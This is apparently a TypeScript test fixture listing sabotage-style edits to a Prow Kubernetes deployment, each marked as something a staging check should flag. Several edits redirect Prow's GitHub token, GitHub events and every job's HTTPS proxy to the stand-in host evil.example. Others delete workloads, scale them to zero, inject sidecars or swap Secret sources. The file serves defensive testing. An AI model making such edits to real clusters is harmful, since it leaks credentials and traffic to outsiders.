import { readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import type { Trick } from '../trick.js';
import { BEFORE, CANDIDATE, type World } from '../world.js';
import { decorate, rehearsed } from './images.js';

const PLANK = 'manifests/prow-controller-manager.yaml';
const ENV = '          env: [';

/** Changes that staging would deploy nothing else for, each rehearsed with the bump. */
export const STAGED_TRICKS: readonly Trick[] = [
  rehearsed('token-elsewhere', 'sends Prow’s token for GitHub elsewhere', 'not-staged', (world) => {
    const args = (address: string) =>
      `          args: [--github-endpoint=${address}, --github-token-path=/etc/github/oauth]\n`;
    for (const side of [world.base, world.head])
      world.edit(join(side, PLANK), ENV, `${args('https://api.github.com')}${ENV}`);
    world.edit(join(world.head, PLANK), 'https://api.github.com', 'https://evil.example');
  }),
  rehearsed('taken-away', 'takes a program away that staging plays', 'not-staged', (world) => {
    rmSync(join(world.head, 'manifests/boskos.yaml'));
  }),
  rehearsed('to-zero', 'has a program that staging plays stand at no replica', 'not-staged', (world) => {
    world.edit(join(world.head, 'manifests/boskos.yaml'), 'replicas: 1', 'replicas: 0');
  }),
  rehearsed('never-pulled', 'has nodes never pull Prow’s image', 'not-staged', (world) => {
    world.edit(join(world.head, PLANK), ENV, `          imagePullPolicy: Never\n${ENV}`);
  }),
  rehearsed('injected', 'has a mesh put a container of somebody’s into Prow’s pod', 'not-staged', (world) => {
    const labels = 'metadata: { labels: { app: prow-controller-manager } }';
    world.edit(join(world.head, PLANK), labels, labels.replace('app:', 'sidecar.istio.io/inject: "true", app:'));
  }),
  rehearsed('played-arguments', 'gives a plugin that staging plays other arguments', 'not-staged', (world) => {
    append(world, 'manifests/cherrypicker.yaml', '          args: [--github-endpoint=https://evil.example]\n');
  }),
  rehearsed('results-elsewhere', 'has jobs’ results kept elsewhere', 'not-staged', (world) => {
    decorate(world, BEFORE);
    for (const side of [world.base, world.head]) {
      world.edit(
        join(side, 'config.yaml'),
        '{ utility_images:',
        '{ gcs_configuration: { bucket: kept }, utility_images:',
      );
    }
    world.edit(join(world.head, 'config.yaml'), BEFORE, CANDIDATE);
    world.edit(join(world.head, 'config.yaml'), 'bucket: kept', 'bucket: lost');
  }),
  rehearsed('preset', 'gives every job a variable by a preset', 'not-staged', (world) => {
    const preset = 'presets:\n- { labels: {}, env: [{ name: HTTPS_PROXY, value: "https://evil.example" }] }\n';
    world.write(join(world.head, 'jobs/presets.yaml'), preset);
  }),
  rehearsed('external-plugin', 'sends what GitHub tells to somebody else', 'not-staged', (world) => {
    for (const side of [world.base, world.head]) {
      world.edit(join(side, 'production.yaml'), 'config: config.yaml', 'config: config.yaml\nplugins: plugins.yaml');
      const plugin = '{ name: needs-rebase, endpoint: "http://needs-rebase" }';
      world.write(join(side, 'plugins.yaml'), `external_plugins: { example/tools: [${plugin}] }\n`);
    }
    world.edit(join(world.head, 'plugins.yaml'), 'http://needs-rebase', 'https://evil.example');
  }),
  rehearsed('no-such-node', 'has Prow ask for a node that there is not', 'not-staged', (world) => {
    append(world, PLANK, '      nodeSelector: { no-such: node }\n');
  }),
  rehearsed('secret-from-elsewhere', 'has a Secret filled from another place', 'not-staged', (world) => {
    for (const side of [world.base, world.head])
      world.write(join(side, 'manifests/external.yaml'), externalSecret('prow-build'));
    world.edit(join(world.head, 'manifests/external.yaml'), 'prow-build', 'another');
  }),
  rehearsed('brought-by-others', 'brings an object for which no staging cluster has a kind', 'not-staged', (world) => {
    world.write(join(world.head, 'manifests/external.yaml'), externalSecret('prow-build'));
  }),
];

function externalSecret(key: string): string {
  return `apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: kubeconfig-build, namespace: prow }
spec:
  target: { name: kubeconfig-build }
  data: [{ secretKey: kubeconfig, remoteRef: { key: ${key} } }]
`;
}

function append(world: World, path: string, text: string): void {
  world.write(join(world.head, path), `${readFileSync(join(world.head, path), 'utf8')}${text}`);
}
